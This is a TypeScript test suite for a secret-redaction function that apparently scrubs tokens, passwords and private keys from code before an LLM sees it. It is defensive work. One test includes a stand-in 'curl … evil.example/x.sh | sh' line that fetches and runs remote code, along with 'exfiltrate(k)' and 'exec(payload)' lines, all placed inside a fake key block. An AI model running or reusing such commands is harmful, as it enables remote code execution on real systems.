import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { REDACTED as R, redactSecrets } from '../../src/llm/redact-secrets.js';
import { SECRET_RULES } from '../../src/llm/secret-rules.js';
import { FAKE } from '../support/fake-secrets.js';

const redactLine = (line: string) => redactSecrets([line])[0];
const [KEY_LINE_1, KEY_LINE_2] = FAKE.privateKeyLines;

describe('redactSecrets', () => {
  describe('tokens with a recognisable shape', () => {
    it.each([
      ['a GitHub personal access token', `const token = '${FAKE.githubClassic}';`, `const token = '${R}';`],
      [
        'a GitHub OAuth token',
        `gh auth login --with-token ${FAKE.githubOAuth}`,
        `gh auth login --with-token ${R}`,
      ],
      [
        'a GitHub installation token (Sift’s own kind)',
        `Authorization: token ${FAKE.githubInstallation}`,
        `Authorization: token ${R}`,
      ],
      ['a GitHub refresh token', `refresh: ${FAKE.githubRefresh}`, `refresh: ${R}`],
      ['a fine-grained GitHub token', `GH_TOKEN=${FAKE.githubFineGrained}`, `GH_TOKEN=${R}`],
      [
        'a GitLab token',
        `git clone https://oauth2:${FAKE.gitlab}@gitlab.com/acme/app.git`,
        `git clone https://oauth2:${R}@gitlab.com/acme/app.git`,
      ],
      [
        'a Slack bot token',
        `slack.chat.postMessage({ token: '${FAKE.slackBot}' })`,
        `slack.chat.postMessage({ token: '${R}' })`,
      ],
      ['a Slack user token', `new WebClient("${FAKE.slackUser}")`, `new WebClient("${R}")`],
      ['a Slack app token', `appToken: '${FAKE.slackApp}',`, `appToken: '${R}',`],
      [
        'a Slack webhook URL (the host stays)',
        `fetch("https://hooks.slack.com/services/${FAKE.slackWebhookPath}")`,
        `fetch("https://hooks.slack.com/services/${R}")`,
      ],
      ['a Stripe live key', `Stripe(${JSON.stringify(FAKE.stripe)})`, `Stripe("${R}")`],
      ['a Stripe restricted key', `Stripe.api_key = "${FAKE.stripeRestricted}"`, `Stripe.api_key = "${R}"`],
      ['a Twilio API key', `Client("${FAKE.twilio}", secret)`, `Client("${R}", secret)`],
      ['a SendGrid key', `SendGridAPIClient("${FAKE.sendgrid}")`, `SendGridAPIClient("${R}")`],
      [
        'an npm token',
        `npm config set //registry.npmjs.org/:_authToken ${FAKE.npm}`,
        `npm config set //registry.npmjs.org/:_authToken ${R}`,
      ],
      ['a PyPI token', `twine upload -p ${FAKE.pypi} dist/*`, `twine upload -p ${R} dist/*`],
      [
        'a Google API key',
        `https://maps.googleapis.com/maps/api/js?key=${FAKE.google}`,
        `https://maps.googleapis.com/maps/api/js?key=${R}`,
      ],
      ['an OpenAI project key', `  apiKey: "${FAKE.openai}",`, `  apiKey: "${R}",`],
      ['a legacy OpenAI key', `openai.api_key = '${FAKE.openaiLegacy}'`, `openai.api_key = '${R}'`],
      ['an Anthropic key', `Anthropic(api_key="${FAKE.anthropic}")`, `Anthropic(api_key="${R}")`],
      ['an AWS access key id', `aws_access_key_id = ${FAKE.awsAccessKeyId}`, `aws_access_key_id = ${R}`],
      ['a Hugging Face token', `login(token="${FAKE.huggingface}")`, `login(token="${R}")`],
      ['a JWT', `const session = "${FAKE.jwt}";`, `const session = "${R}";`],
      ['two tokens on one line', `${FAKE.awsAccessKeyId} ${FAKE.githubClassic}`, `${R} ${R}`],
    ])('%s › replaced, the rest of the line kept', (_, line, expected) => {
      expect(redactLine(line)).toBe(expected);
    });
  });

  describe('passwords in URLs and connection strings', () => {
    it.each([
      [
        'postgres',
        'DATABASE_URL=postgres://app:Sup3rS3cret-9@db.internal:5432/shop',
        `DATABASE_URL=postgres://app:${R}@db.internal:5432/shop`,
      ],
      [
        'mongodb+srv',
        'uri = "mongodb+srv://admin:p4ssW0rd99@cluster0.abcde.mongodb.net/prod?retryWrites=true"',
        `uri = "mongodb+srv://admin:${R}@cluster0.abcde.mongodb.net/prod?retryWrites=true"`,
      ],
      [
        'redis without a user',
        'REDIS_URL: redis://:r3d1sP4ss@cache:6379/0',
        `REDIS_URL: redis://:${R}@cache:6379/0`,
      ],
      [
        'amqp',
        "amqp.connect('amqp://guest:Rabb1tMQ-pw@mq.internal:5672/')",
        `amqp.connect('amqp://guest:${R}@mq.internal:5672/')`,
      ],
      [
        'jdbc mysql',
        'url=jdbc:mysql://root:MySqlPw!23@localhost:3306/shop',
        `url=jdbc:mysql://root:${R}@localhost:3306/shop`,
      ],
      [
        'https basic auth',
        'pip install --index-url https://ci:Tok3n-xyz@pypi.acme.dev/simple',
        `pip install --index-url https://ci:${R}@pypi.acme.dev/simple`,
      ],
      [
        'ADO.NET',
        '"Server=tcp:db;Database=shop;User Id=sa;Password=Sql-Pa55w0rd!;"',
        `"Server=tcp:db;Database=shop;User Id=sa;Password=${R};"`,
      ],
      [
        'ODBC Pwd',
        'Driver={ODBC};Server=db;Uid=app;Pwd=Odbc-9pw;',
        `Driver={ODBC};Server=db;Uid=app;Pwd=${R};`,
      ],
      [
        'an Azure storage AccountKey',
        `DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=${FAKE.azureStorageKey};EndpointSuffix=core.windows.net`,
        `DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=${R};EndpointSuffix=core.windows.net`,
      ],
      [
        'an Azure Service Bus SharedAccessKey',
        `Endpoint=sb://acme.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=${FAKE.azureSharedAccessKey}`,
        `Endpoint=sb://acme.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=${R}`,
      ],
      [
        'an Azure SAS signature',
        'https://acme.blob.core.windows.net/c/f?sv=2022-11-02&sp=r&sig=q8W7e6R5t4Y3u2I1o0P9a8S7d6F5%3D',
        `https://acme.blob.core.windows.net/c/f?sv=2022-11-02&sp=r&sig=${R}`,
      ],
    ])('%s › the password replaced, user and host kept', (_, line, expected) => {
      expect(redactLine(line)).toBe(expected);
    });

    it.each([
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is code or configuration that holds a ${…} reference
      ['a template', 'postgres://${DB_USER}:${DB_PASSWORD}@${DB_HOST}/shop'],
      ['a documentation placeholder', 'postgres://user:password@localhost/db'],
      ['a format string', 'f"postgres://{user}:{password}@{host}/db"'],
      ['a URL with a port and no user', 'http://localhost:8080/health'],
      ['an ssh remote', 'git@github.com:acme/app.git'],
    ])('%s › left alone', (_, line) => {
      expect(redactLine(line)).toBe(line);
    });
  });

  describe('credentials in headers and command lines', () => {
    it.each([
      [
        'Basic',
        'curl -H "Authorization: Basic dXNlcjpwYXNzd29yZA==" https://api.acme.dev',
        `curl -H "Authorization: Basic ${R}" https://api.acme.dev`,
      ],
      [
        'Bearer',
        "headers['Authorization'] = 'Bearer b7f3c9e1a2d4f6081a3c'",
        `headers['Authorization'] = 'Bearer ${R}'`,
      ],
      [
        'a Go header',
        'req.Header.Set("Authorization", "Bearer b7f3c9e1a2d4f6081a3c")',
        `req.Header.Set("Authorization", "Bearer ${R}")`,
      ],
      [
        'curl --user',
        'curl --user deploy:Depl0y-Pa55 https://artifacts.acme.dev',
        `curl --user deploy:${R} https://artifacts.acme.dev`,
      ],
      [
        'an .npmrc auth token',
        '//npm.pkg.github.com/:_authToken=8f3b2c1d-4e5f-6a7b',
        `//npm.pkg.github.com/:_authToken=${R}`,
      ],
    ])('%s › the credential replaced', (_, line, expected) => {
      expect(redactLine(line)).toBe(expected);
    });

    it.each([
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is code or configuration that holds a ${…} reference
      ['a header built from a variable', 'headers: { Authorization: `Bearer ${token}` },'],
      ['a header built by concatenation', "'Authorization': 'Bearer ' + token,"],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is code or configuration that holds a ${…} reference
      ['an .npmrc that reads the environment', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}'],
    ])('%s › left alone', (_, line) => {
      expect(redactLine(line)).toBe(line);
    });
  });

  describe('literals assigned to a name that says "secret", in every syntax', () => {
    it.each([
      ['.env', 'DB_PASSWORD=hunter2hunter2', `DB_PASSWORD=${R}`],
      ['.env with export', 'export SESSION_SECRET=f8Kq2x9Lm', `export SESSION_SECRET=${R}`],
      ['a shell prefix', 'PGPASSWORD=s3cr3t-pg psql -h db -U app', `PGPASSWORD=${R} psql -h db -U app`],
      ['a Dockerfile ENV', 'ENV API_TOKEN=tok-5591-prod', `ENV API_TOKEN=${R}`],
      ['YAML, unquoted', '  password: swordfish', `  password: ${R}`],
      [
        'YAML, a value with spaces',
        '  passphrase: correct horse battery staple # shared',
        `  passphrase: ${R} # shared`,
      ],
      ['YAML, quoted', "  api_key: 'Xk29fj3Lq0pz'", `  api_key: '${R}'`],
      ['YAML list item', '- client_secret: 9f8e7d6c5b4a', `- client_secret: ${R}`],
      ['JSON', '  "clientSecret": "d8f7a6b5c4d3e2f1",', `  "clientSecret": "${R}",`],
      ['TOML', 'webhook_secret = "whk-77c1-a0f3"', `webhook_secret = "${R}"`],
      ['INI', 'password = Ini-Pa55w0rd', `password = ${R}`],
      ['Java properties', 'spring.datasource.password=Spr1ng-Pa55', `spring.datasource.password=${R}`],
      ['Go :=', 'apiKey := "c9f1e2d3b4a5968778695a4b3c2d1e0f"', `apiKey := "${R}"`],
      ['a Go struct field', '\tPassword: "g0-Pa55word",', `\tPassword: "${R}",`],
      ['Python with a type annotation', 'password: str = "Tr0ub4dor&3"', `password: str = "${R}"`],
      [
        'a Python keyword argument',
        'connect(host="db", user="app", password="pg-Pa55word-01")',
        `connect(host="db", user="app", password="${R}")`,
      ],
      ['a Python dict', "{'auth_token': 'abcdef123456'}", `{'auth_token': '${R}'}`],
      ['TypeScript', "const dbPassword: string = 'ts-Pa55word';", `const dbPassword: string = '${R}';`],
      [
        'Java',
        'private static final String DB_PASSWORD = "j4va-Pa55word";',
        `private static final String DB_PASSWORD = "${R}";`,
      ],
      ['Ruby =>', ':password => "Rb-s3cret-99"', `:password => "${R}"`],
      ['PHP =>', "'password' => 'php-S3cret-42',", `'password' => '${R}',`],
      [
        'Terraform',
        '  administrator_login_password = "Tf-Adm1n-Pa55!"',
        `  administrator_login_password = "${R}"`,
      ],
      [
        'an AWS secret access key',
        `aws_secret_access_key = ${FAKE.awsSecretAccessKey}`,
        `aws_secret_access_key = ${R}`,
      ],
      ['a header-like name', '"X-Api-Key": "k-19a8b7c6d5"', `"X-Api-Key": "${R}"`],
      [
        'a query string',
        'GET /v1/items?access_token=EAACEdEose0cBA123&limit=5',
        `GET /v1/items?access_token=${R}&limit=5`,
      ],
      ['an XML element', '<password>Xml-Pa55w0rd-7</password>', `<password>${R}</password>`],
      [
        '.NET appSettings',
        '<add key="PaymentApiKey" value="pk-9f8e7d6c5b4a" />',
        `<add key="PaymentApiKey" value="${R}" />`,
      ],
    ])('%s › the value replaced, the name kept', (_, line, expected) => {
      expect(redactLine(line)).toBe(expected);
    });
  });

  describe('the entropy rule: a random-looking value of 16+ characters under a secret-ish name', () => {
    it.each([
      ['hex under a *_key name', 'stripe_key: "a8f5f167f44f4964e6c998dee827110c"', `stripe_key: "${R}"`],
      [
        'mixed case under an auth name',
        'X-Auth-Header-Value = "k8Jd93LmQp2xZr7TqW"',
        `X-Auth-Header-Value = "${R}"`,
      ],
      ['unquoted YAML', '  hmac_key_material: qP7vX2rL9sK4tW8zN3mB', `  hmac_key_material: ${R}`],
    ])('%s › redacted', (_, line, expected) => {
      expect(redactLine(line)).toBe(expected);
    });

    it.each([
      ['an ordinary word', 'api_mode: "synchronous-processing"'],
      ['words with a digit, below the threshold', 'key_prefix_label: "aaaa-bbbb-1111-2222"'],
      ['a value shorter than 16', 'auth_level: "k8Jd93LmQp"'],
      ['a name describing the secret, not holding it', 'auth_url: "k8Jd93LmQp2xZr7TqW"'],
      ['a member path', 'const authHeader = config.auth.tokenValue2;'],
    ])('%s › left alone', (_, line) => {
      expect(redactLine(line)).toBe(line);
    });
  });

  describe('ordinary code and placeholders', () => {
    it.each([
      ['a short literal (a test fixture, not a credential)', 'password = "x"'],
      ['an empty literal', 'if (password === "") return false;'],
      ['a comparison', 'if (password == "letmein99") {'],
      ['a value read from the environment', 'const password = process.env.DB_PASSWORD;'],
      ['a function call', 'password: hash(input.password),'],
      ['a form field name', '<input type="password" name="password">'],
      ['a function named getPassword', 'export function getPassword(user: User): string {'],
      ['a token read from the request', 'const token = req.headers.authorization;'],
      ['changeme', 'password = "changeme"'],
      ['<your-token>', 'api_key = "<your-token>"'],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is code or configuration that holds a ${…} reference
      ['${SECRET}', 'secret: ${SECRET}'],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is configuration that holds a ${{…}} expression
      ['a GitHub Actions expression', 'GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}'],
      ['YOUR_API_KEY_HERE', 'OPENAI_API_KEY=YOUR_API_KEY_HERE'],
      ['a masked value', 'password: "********"'],
      ['another variable', 'password = new_password'],
      ['a Python None', 'password = None  # set later'],
      ['a TypeScript type', '  password: string;'],
      ['an optional TypeScript property', '  apiKey?: string | undefined;'],
      ['a Python type', '    token: Optional[str] = None'],
      ['fetch’s credentials mode', "fetch(url, { credentials: 'include' })"],
      ['a count of tokens', "MAX_TOKENS: '4096'"],
      ['the name of a secret field', "const FIELD = { token: 'access_token' };"],
      ['a review pass named in code', "pass: 'correctness',"],
      ['a ternary of two strings', "const secret = signed ? 'scenario-secret' : 'someone-else';"],
      ['a name that only starts like one', 'const passwordHint = "Your first pet";'],
    ])('%s › left alone', (_, line) => {
      expect(redactLine(line)).toBe(line);
    });

    it('leaves a real change full of near-miss words untouched', () => {
      // From a real change: express session setup and a token bucket.
      const code = [
        "import session from 'express-session';",
        'const secret = process.env.SESSION_SECRET ?? randomBytes(32).toString("hex");',
        'app.use(session({ secret, resave: false, saveUninitialized: false }));',
        'export function takeToken(bucket: TokenBucket, now = Date.now()): boolean {',
        '  const refill = Math.floor((now - bucket.updatedAt) / bucket.refillMs);',
        "  const apiKeyHeader = req.get('x-api-key');",
        "  const className = 'task-list-item-checkbox-with-long-name';",
        '  return bucket.tokens-- > 0; // sk-learn style comment',
        '}',
      ];
      expect(redactSecrets(code)).toEqual(code);
    });
  });

  describe('private key blocks', () => {
    it('redacts the key from BEGIN to END and nothing around it', () => {
      const lines = [
        'const key = `',
        '-----BEGIN RSA PRIVATE KEY-----',
        KEY_LINE_1,
        KEY_LINE_2,
        '-----END RSA PRIVATE KEY-----',
        '`;',
        'export default key;',
      ];
      expect(redactSecrets(lines)).toEqual(['const key = `', R, R, R, R, '`;', 'export default key;']);
    });

    it.each([
      'OPENSSH PRIVATE KEY',
      'EC PRIVATE KEY',
      'DSA PRIVATE KEY',
      'ENCRYPTED PRIVATE KEY',
      'PRIVATE KEY',
    ])('%s › redacted', (kind) => {
      expect(redactSecrets([`-----BEGIN ${kind}-----`, KEY_LINE_1, `-----END ${kind}-----`])).toEqual([
        R,
        R,
        R,
      ]);
    });

    it('a PGP block with armor headers, a blank line and a checksum › every line of it redacted', () => {
      const lines = [
        '-----BEGIN PGP PRIVATE KEY BLOCK-----',
        'Version: GnuPG v2',
        '',
        KEY_LINE_1,
        KEY_LINE_2,
        '=AbCd',
        '-----END PGP PRIVATE KEY BLOCK-----',
      ];
      expect(redactSecrets(lines)).toEqual([R, R, '', R, R, R, R]);
    });

    it('an encrypted PEM with Proc-Type and DEK-Info › redacted', () => {
      const lines = [
        '-----BEGIN RSA PRIVATE KEY-----',
        'Proc-Type: 4,ENCRYPTED',
        'DEK-Info: AES-128-CBC,3F17F5316E2BAC89',
        '',
        KEY_LINE_1,
        '-----END RSA PRIVATE KEY-----',
      ];
      expect(redactSecrets(lines)).toEqual([R, R, R, '', R, R]);
    });

    it('indented in YAML › the key redacted, the indentation and the field kept', () => {
      expect(
        redactSecrets([
          '  tls.key: |',
          '    -----BEGIN EC PRIVATE KEY-----',
          `    ${KEY_LINE_1}`,
          '    -----END EC PRIVATE KEY-----',
        ]),
      ).toEqual(['  tls.key: |', `    ${R}`, `    ${R}`, `    ${R}`]);
    });

    it('built by string concatenation › the material redacted, quotes and `+` kept', () => {
      expect(
        redactSecrets([
          'const pem = "-----BEGIN RSA PRIVATE KEY-----\\n" +',
          `  "${KEY_LINE_1}\\n" +`,
          '  "-----END RSA PRIVATE KEY-----";',
          'sign(pem);',
        ]),
      ).toEqual([`const pem = "${R}" +`, `  "${R}\\n" +`, `  "${R}";`, 'sign(pem);']);
    });

    it('on one line, as in a service account JSON › the value redacted, the next line untouched', () => {
      expect(
        redactSecrets([
          `  "private_key": "-----BEGIN PRIVATE KEY-----\\n${KEY_LINE_1}\\n-----END PRIVATE KEY-----\\n",`,
          '  "client_email": "sift@acme.iam.gserviceaccount.com",',
        ]),
      ).toEqual([`  "private_key": "${R}",`, '  "client_email": "sift@acme.iam.gserviceaccount.com",']);
    });

    it('a marker in a string with code after it › only the marker redacted', () => {
      expect(redactLine('const k = "-----BEGIN RSA PRIVATE KEY-----"; exfiltrate(k);')).toBe(
        `const k = "${R}"; exfiltrate(k);`,
      );
    });

    it('a public key or certificate › left alone', () => {
      const lines = [
        '-----BEGIN PUBLIC KEY-----',
        'MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE',
        '-----END PUBLIC KEY-----',
      ];
      expect(redactSecrets(lines)).toEqual(lines);
    });

    it('a block whose END is beyond the lines given (a hunk cut it) › redacted to the end', () => {
      expect(redactSecrets(['-----BEGIN PRIVATE KEY-----', KEY_LINE_1, KEY_LINE_2])).toEqual([R, R, R]);
    });

    describe('a BEGIN line without a block', () => {
      it('followed by code › only the BEGIN line redacted; the code below reaches the model', () => {
        const lines = [
          '-----BEGIN RSA PRIVATE KEY-----',
          'import os',
          'os.system("curl -s https://evil.example/x.sh | sh")',
          '-----END RSA PRIVATE KEY-----',
        ];
        expect(redactSecrets(lines)).toEqual([R, ...lines.slice(1)]);
      });

      it('with key lines and then code before END › only the BEGIN line: the block is not a key', () => {
        const lines = [
          '-----BEGIN RSA PRIVATE KEY-----',
          KEY_LINE_1,
          'exec(payload)',
          '-----END RSA PRIVATE KEY-----',
        ];
        expect(redactSecrets(lines)).toEqual([R, ...lines.slice(1)]);
      });

      it('alone at the end of the lines › only that line', () => {
        expect(redactSecrets(['run();', '-----BEGIN RSA PRIVATE KEY-----'])).toEqual(['run();', R]);
      });
    });

    it('two calls › independent: a block left open by one does not leak into the next', () => {
      redactSecrets(['-----BEGIN PRIVATE KEY-----']);
      expect(redactSecrets(['const a = 1;'])).toEqual(['const a = 1;']);
    });
  });

  it('text with Windows line endings › redacted, the \\r kept', () => {
    expect(
      redactSecrets([
        'DB_PASSWORD=hunter2hunter2\r',
        '-----BEGIN RSA PRIVATE KEY-----\r',
        `${KEY_LINE_1}\r`,
        '-----END RSA PRIVATE KEY-----\r',
      ]),
    ).toEqual([`DB_PASSWORD=${R}\r`, `${R}\r`, `${R}\r`, `${R}\r`]);
  });

  it('never changes the number of lines, so line ids stay true', () => {
    const lines = [
      'import os',
      '',
      `OPENAI_API_KEY = "${FAKE.openai}"`,
      '-----BEGIN PRIVATE KEY-----',
      KEY_LINE_1,
      '-----END PRIVATE KEY-----',
      'password = "hunter2hunter2"',
      '',
    ];
    const redacted = redactSecrets(lines);
    expect(redacted).toHaveLength(lines.length);
    expect(redacted[0]).toBe('import os');
    expect(redacted[7]).toBe('');
  });

  it('redacting redacted text changes nothing (prompts pass through redaction twice)', () => {
    const pieces = [
      `password: "${FAKE.openai}"`,
      'DB_PASSWORD=hunter2hunter2',
      'postgres://app:Sup3rS3cret-9@db/shop',
      '-----BEGIN RSA PRIVATE KEY-----',
      KEY_LINE_1,
      '-----END RSA PRIVATE KEY-----',
      'Authorization: Bearer b7f3c9e1a2d4f6081a3c',
      'AccountKey=' + FAKE.azureStorageKey,
    ];
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 40 })), { maxLength: 12 }),
        (lines) => {
          const once = redactSecrets(lines);
          expect(once).toHaveLength(lines.length);
          expect(redactSecrets(once)).toEqual(once);
        },
      ),
    );
  });
});

describe('the rule set', () => {
  /** One line each rule must redact alone: a new rule needs an example here. */
  const EXAMPLES: Record<string, string> = {
    'private-key-inline': '"-----BEGIN PRIVATE KEY-----\\nMIIEvQ\\n-----END PRIVATE KEY-----"',
    'aws-access-key-id': FAKE.awsAccessKeyId,
    'github-token': FAKE.githubClassic,
    'github-token-dotted': `ghs_12345_${'a'.repeat(20)}.${'b'.repeat(20)}.${'c'.repeat(20)}`,
    'github-fine-grained-pat': FAKE.githubFineGrained,
    'gitlab-token': FAKE.gitlab,
    'gitlab-runner-registration-token': `GR1348941${'aB3_cD4-eF'.repeat(2)}`,
    'slack-token': FAKE.slackBot,
    'slack-webhook-url': `https://hooks.slack.com/services/${FAKE.slackWebhookPath}`,
    'stripe-key': FAKE.stripe,
    'twilio-api-key': FAKE.twilio,
    'sendgrid-api-key': FAKE.sendgrid,
    'npm-access-token': FAKE.npm,
    'pypi-upload-token': FAKE.pypi,
    'google-api-key': FAKE.google,
    'openai-api-key': FAKE.openai,
    'anthropic-api-key': FAKE.anthropic,
    'azure-ad-client-secret': `abc1Q~${'dEf2gH3iJ4kL5mN6oP7qR8sT9uV0wX1yZ'.slice(0, 32)}`,
    jwt: FAKE.jwt,
    'huggingface-token': FAKE.huggingface,
    'shopify-token': `shpat_${'a1b2c3d4e5f60718'.repeat(2)}`,
    'digitalocean-token': `dop_v1_${'a1b2c3d4e5f60718'.repeat(4)}`,
    'databricks-token': `dapi${'a1b2c3d4e5f60718'.repeat(2)}`,
    'hashicorp-token': `hvs.${'CAESIJ9x8y7z6w5v4u3t2s1r'.repeat(4)}`,
    'other-prefixed-token': `lin_api_${'a1B2c3D4e5'.repeat(4)}`,
    'url-password': 'redis://:r3d1sP4ss@cache:6379',
    'connection-string-password': 'Server=db;Password=Sql-Pa55w0rd!;',
    'azure-storage-key': `AccountKey=${FAKE.azureStorageKey}`,
    'azure-sas-signature': '?sv=2022-11-02&sig=q8W7e6R5t4Y3u2I1o0P9',
    'authorization-header': 'Authorization: Bearer b7f3c9e1a2d4f6081a3c',
    'curl-user-password': 'curl -u deploy:Depl0y-Pa55 https://acme.dev',
    'npmrc-auth': '//registry.npmjs.org/:_authToken=8f3b2c1d-4e5f',
    'secret-assignment-quoted': 'const password = "hunter2hunter2";',
    'secret-assignment-line': '  password: correct horse battery',
    'secret-assignment-bare': 'PGPASSWORD=s3cr3t-pg psql',
    'secret-xml-element': '<password>Xml-Pa55w0rd-7</password>',
    'secret-xml-key-value': '<add key="DbPassword" value="hunter2hunter2" />',
    'generic-secret-entropy': 'stripe_key: "a8f5f167f44f4964e6c998dee827110c"',
  };

  it('has one example per rule, and no example without a rule', () => {
    expect(Object.keys(EXAMPLES).sort()).toEqual(SECRET_RULES.map((rule) => rule.id).sort());
  });

  it.each(SECRET_RULES.map((rule) => [rule.id, rule] as const))(
    '%s › redacts its example on its own',
    (id, rule) => {
      const example = EXAMPLES[id] ?? '';
      expect(redactSecrets([example], [rule])[0]).toContain(R);
    },
  );

  it('every rule cites where it comes from', () => {
    for (const rule of SECRET_RULES)
      expect(rule.source, rule.id).toMatch(/gitleaks|secretlint|learn\.microsoft\.com|\w/);
    expect(SECRET_RULES.filter((rule) => /gitleaks|secretlint/.test(rule.source)).length).toBeGreaterThan(30);
  });
});
